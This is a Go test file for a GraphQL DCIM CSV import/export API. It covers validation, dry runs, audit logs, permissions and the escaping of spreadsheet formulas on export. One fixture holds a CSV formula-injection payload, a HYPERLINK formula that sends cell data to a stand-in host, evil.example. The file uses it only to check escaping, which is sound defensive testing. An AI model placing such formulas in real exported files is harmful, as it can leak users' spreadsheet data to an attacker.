package graph_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/virtflow/virtflow/authz"
	"github.com/virtflow/virtflow/ent/host"
	"github.com/virtflow/virtflow/internal/testkit/gqltest"
)

// importDCIM and exportDCIM through the real HTTP handler: the API surface. Package dcimimport
// tests the checks themselves.

const importDCIM = `mutation($kind: DCIMImportKind!, $csv: String!, $dryRun: Boolean!) {
  importDCIM(kind: $kind, csv: $csv, dryRun: $dryRun) { kind dryRun applied errorCount rows { row name id errors { column message } } }
}`

type importResult struct {
	ImportDCIM struct {
		Kind       string
		DryRun     bool
		Applied    bool
		ErrorCount int
		Rows       []struct {
			Row    int
			Name   string
			ID     *string
			Errors []struct{ Column, Message string }
		}
	}
}

func TestImportDCIM(t *testing.T) {
	t.Parallel()
	env, _ := newEnv(t)
	a, b := uniq("imp-a"), uniq("imp-b")
	bad := "name,kind\n" + a + ",server\n" + b + ",toaster\n"
	var out importResult
	env.MustDo(t, importDCIM, map[string]any{"kind": "HOSTS", "csv": bad, "dryRun": false}, &out)
	r := out.ImportDCIM
	if r.Applied || r.ErrorCount != 1 || len(r.Rows) != 2 || r.Rows[1].Row != 3 || r.Rows[1].Errors[0].Column != "kind" {
		t.Fatalf("one bad row: %+v; want not applied, row 3 naming column kind", r)
	}

	good := strings.Replace(bad, "toaster", "switch", 1)
	env.MustDo(t, importDCIM, map[string]any{"kind": "HOSTS", "csv": good, "dryRun": true}, &out)
	if out.ImportDCIM.Applied || out.ImportDCIM.ErrorCount != 0 || !out.ImportDCIM.DryRun {
		t.Fatalf("dry run: %+v", out.ImportDCIM)
	}
	env.MustDo(t, importDCIM, map[string]any{"kind": "HOSTS", "csv": good, "dryRun": false}, &out)
	if !out.ImportDCIM.Applied || out.ImportDCIM.Rows[1].ID == nil {
		t.Fatalf("apply: %+v", out.ImportDCIM)
	}
	var logs struct {
		AuditLogs  struct{ TotalCount int }
		ExportDCIM string
	}
	env.MustDo(t, `query($id: Int!) { auditLogs(where: { action: "importDCIM", objectType: "Host", objectID: $id }) { totalCount }
		exportDCIM(kind: HOSTS) }`, map[string]any{"id": atoi(t, *out.ImportDCIM.Rows[1].ID)}, &logs)
	if logs.AuditLogs.TotalCount != 1 || !strings.Contains(logs.ExportDCIM, "\n"+b+",SWITCH,") {
		t.Fatalf("audit rows %d (want 1); export:\n%s", logs.AuditLogs.TotalCount, logs.ExportDCIM)
	}

	env.Do(t, importDCIM, map[string]any{"kind": "PORTS", "csv": "host,name,colour\n", "dryRun": true}).ExpectError(t, "VALIDATION", "csv")
	viewer := env.As(roleToken(t, env, authz.RoleViewer, 0, 0))
	viewer.Do(t, importDCIM, map[string]any{"kind": "CABLES", "csv": "a_host\n", "dryRun": true}).ExpectError(t, "FORBIDDEN", "")
}

// TestDCIMExportEscapesFormulas (issue 23, item 7): text cells a spreadsheet would run as a
// formula (=, +, -, @ first) leave exportDCIM with a leading quote, and importDCIM of that
// export restores the original values, through the real HTTP handler.
func TestDCIMExportEscapesFormulas(t *testing.T) {
	t.Parallel()
	env, _ := newEnv(t)
	type hostValues struct{ name, vendor, model, serial, description string }
	hosts := []hostValues{
		{uniq("csv-a"), "+1 555 0100", "-2U chassis", "@SUM(A1)" + uniq(""), `=HYPERLINK("http://evil.example/?q="&A1,"click")`},
		{uniq("csv-b"), "'quoted vendor", "plain", "SN-" + uniq(""), "- spare, =not first"},
	}
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	_ = w.Write([]string{"name", "vendor", "model", "serial_number", "description"})
	for _, h := range hosts {
		_ = w.Write([]string{h.name, h.vendor, h.model, h.serial, h.description})
	}
	w.Flush()
	var out importResult
	env.MustDo(t, importDCIM, map[string]any{"kind": "HOSTS", "csv": in.String(), "dryRun": false}, &out)
	if !out.ImportDCIM.Applied {
		t.Fatalf("import: %+v", out.ImportDCIM)
	}

	var exp struct{ ExportDCIM string }
	env.MustDo(t, `{ exportDCIM(kind: HOSTS) }`, nil, &exp)
	recs, err := csv.NewReader(strings.NewReader(exp.ExportDCIM)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header, mine := recs[0], [][]string{recs[0]}
	col := func(name string) int { return slices.Index(header, name) }
	for _, r := range recs[1:] {
		if slices.ContainsFunc(hosts, func(h hostValues) bool { return h.name == r[col("name")] }) {
			mine = append(mine, r)
		}
	}
	if len(mine) != 3 {
		t.Fatalf("export holds %d of the 2 hosts:\n%s", len(mine)-1, exp.ExportDCIM)
	}
	for _, r := range mine[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("exported %s cell %q starts a formula", header[i], cell)
			}
		}
	}
	if got := mine[1][col("description")]; got != "'"+hosts[0].description {
		t.Errorf("exported description = %q, want it behind a quote", got)
	}

	// Import the export again, once the hosts are gone: the values come back as they were.
	for _, h := range hosts {
		env.Client.Host.Delete().Where(host.Name(h.name)).ExecX(gqltest.System())
	}
	var again bytes.Buffer
	w = csv.NewWriter(&again)
	_ = w.WriteAll(mine)
	env.MustDo(t, importDCIM, map[string]any{"kind": "HOSTS", "csv": again.String(), "dryRun": false}, &out)
	if !out.ImportDCIM.Applied {
		t.Fatalf("import of the export: %+v", out.ImportDCIM)
	}
	for _, h := range hosts {
		got := env.Client.Host.Query().Where(host.Name(h.name)).OnlyX(gqltest.System())
		if got.Vendor != h.vendor || got.Model != h.model || got.SerialNumber != h.serial || got.Description != h.description {
			t.Errorf("host %s after the round trip: vendor %q model %q serial %q description %q; want %+v",
				h.name, got.Vendor, got.Model, got.SerialNumber, got.Description, h)
		}
	}
}
